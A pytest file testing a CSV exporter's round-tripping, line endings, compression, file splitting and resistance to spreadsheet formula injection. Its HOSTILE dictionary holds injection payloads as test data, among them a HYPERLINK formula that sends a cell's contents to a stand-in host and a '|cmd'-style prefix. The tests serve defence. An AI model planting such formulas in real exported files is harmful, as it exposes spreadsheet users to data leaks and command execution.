"""CSV as others read it."""

from __future__ import annotations

import csv
import gzip
import json
import subprocess
import sys
from pathlib import Path

import pytest
import zstandard

from recant.export import unprotected
from tests.integration.library import Library

HOSTILE = {
    "plain": "nothing special",
    "quotes": 'he said "no", twice: ""',
    "newlines": "one\ntwo\r\nthree\rfour",
    "commas": "a,b;c\td",
    "formula": '=HYPERLINK("http://x.test?"&A1,"click")',
    "plus": "+1+1|cmd",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "tab": "\t=1",
    "carriage": "\r=1",
    "full width": "＝1+1",
    "apostrophe": "'tis",
    "control": "bell\x07 escape\x1b[31m",
    "backslash": "\\N and \\. and \\",
    "dot": "\\.",
    "empty-looking": " ",
    "right to left": "\u202eשלום\u202c العربية",
    "emoji": "👩‍👩‍👧‍👦 ça va?",
    "null": "NULL",
}


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def test_hostile_texts_come_back_by_the_standard_library(library: Library, export, target):
    """Quotes, ends of lines, control characters, formulas, other writing directions: every text, exactly."""
    library.publish(HOSTILE)
    report = export()
    assert report.rows == {"documents": len(HOSTILE), "chunks": len(HOSTILE)}
    assert {r["source"]: unprotected(r["text"]) for r in rows(target / "chunks.csv")} == HOSTILE


def test_no_cell_begins_a_formula_unless_asked_for(library: Library, export, target):
    """An apostrophe stands before each such beginning; numbers stay numbers."""
    library.publish(HOSTILE)
    export()
    cells = [cell for row in rows(target / "chunks.csv") for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")]
    export(protect_formulas=False)
    assert {r["source"]: r["text"] for r in rows(target / "chunks.csv")} == HOSTILE


def test_lines_end_as_rfc_4180_has_it_and_the_file_is_utf_8(library: Library, export, target):
    """CR LF after each record, also the last; ends of lines within a text as they were."""
    library.publish({"a": "x\ny", "b": "z"})
    export(columns={"chunks": ("source", "text", "token_count")}, tables=("chunks",))
    assert (target / "chunks.csv").read_bytes() == b'source,text,token_count\r\na,"x\ny",2\r\nb,z,1\r\n'


def test_no_value_and_an_empty_text_are_told_apart(kb, library: Library, export, target):
    """Unquoted nothing is no value, a quoted one an empty text; or any mark that was asked for."""
    library.publish({"a": "x"}, run_id=None)
    export(tables=("operations",), columns={"operations": ("run_id", "message", "kind")})
    assert (target / "operations.csv").read_bytes() == b'run_id,message,kind\r\n,"",ingest\r\n'
    export(tables=("operations",), columns={"operations": ("run_id", "message", "kind")}, null_text="\\N")
    assert (target / "operations.csv").read_bytes().splitlines()[1] == b"\\N,,ingest"


@pytest.mark.parametrize(
    ("compression", "extension", "opened"),
    [
        ("gzip", ".csv.gz", gzip.decompress),
        ("zstd", ".csv.zst", lambda data: zstandard.ZstdDecompressor().stream_reader(data).read()),
    ],
)
def test_compressed_files_hold_the_same_and_are_the_same_again(library, export, target, compression, extension, opened):
    """No time and no name in them: equal knowledge gives equal bytes."""
    library.publish(HOSTILE)
    export()
    plain = (target / "chunks.csv").read_bytes()
    export(compression=compression)
    packed = (target / f"chunks{extension}").read_bytes()
    assert opened(packed) == plain
    export(compression=compression)
    assert (target / f"chunks{extension}").read_bytes() == packed


def test_rows_are_cut_into_files_with_a_header_each(library: Library, export, target):
    """Put together they are the whole, in order; nothing is left over where the rows fill the files."""
    library.publish({f"{n:02}": f"text {n}" for n in range(6)})
    export(tables=("chunks",))
    whole = rows(target / "chunks.csv")
    export(tables=("chunks",), rows_per_file=4)
    names = ["chunks-00001.csv", "chunks-00002.csv"]
    assert sorted(path.name for path in target.iterdir()) == [*names, "manifest.json"]
    assert [row for name in names for row in rows(target / name)] == whole
    assert [len(rows(target / name)) for name in names] == [4, 2]
    export(tables=("chunks",), rows_per_file=3)
    assert sorted(path.name for path in target.iterdir()) == [*names, "manifest.json"]


def test_an_empty_collection_gives_headers(library: Library, export, target):
    """And nothing else."""
    assert library.collection.name
    assert export().rows == {"documents": 0, "chunks": 0}
    assert (target / "documents.csv").read_bytes().count(b"\r\n") == 1


def test_vectors_and_lists_are_json(library: Library, export, target):
    """Vectors when asked for; lists always."""
    library.publish({"a": "x"})
    export(tables=("chunks",), vectors=True)
    (row,) = rows(target / "chunks.csv")
    wanted = library.model.vector("x")
    assert json.loads(row["vector"]) == pytest.approx(wanted.tolist(), abs=1e-3)
    assert (json.loads(row["parent_headers"]), json.loads(row["attributes"])) == ([], {})


READ = """
import sys, json
import pandas, duckdb
frame = pandas.read_csv(sys.argv[1], keep_default_na=False, dtype=str)
quack = duckdb.sql("SELECT source, text FROM read_csv('%s', all_varchar=true, header=true, nullstr='')" % sys.argv[1]).fetchall()
print(json.dumps({"pandas": dict(zip(frame.source, frame.text)), "duckdb": dict(quack)}))
"""


def test_pandas_and_duckdb_read_the_same(library: Library, export, target):
    """From a process that knows nothing of Recant."""
    texts = {name: text for name, text in HOSTILE.items() if "\r" not in text}
    library.publish(texts)
    export(protect_formulas=False)
    ended = subprocess.run(
        [sys.executable, "-I", "-c", READ, str(target / "chunks.csv")], capture_output=True, text=True, check=True
    )
    assert json.loads(ended.stdout) == {"pandas": texts, "duckdb": texts}


def test_memory_follows_the_block_and_not_the_table(database: str, target: Path, monkeypatch):
    """Ten times as many rows take no more of it while they are written."""
    import tracemalloc

    from recant.export import ExportRequest, Exports, csv_files
    from recant.oplog import Attribution
    from recant.settings import read_settings
    from recant.store import Database
    from tests.benchmarks.synthetic import COLLECTION, Clusters, Writer, drafts

    monkeypatch.setattr(csv_files, "BLOCK_BYTES", 1 << 14)
    peaks = []
    with Database(database) as db:
        writer, exports = Writer(db), Exports(db, read_settings({}))
        request = ExportRequest(str(target), ("chunks",), COLLECTION)
        for documents in (40, 400):
            writer.publish(drafts(Clusters(1, 10), documents, label="memory"))
            exports.write(request, Attribution("warm-up"))
            tracemalloc.start()
            report = exports.write(request, Attribution("measured"))
            peaks.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
    assert report.size_bytes > 1_500_000
    assert peaks[1] < max(1.5 * peaks[0], report.size_bytes / 3)
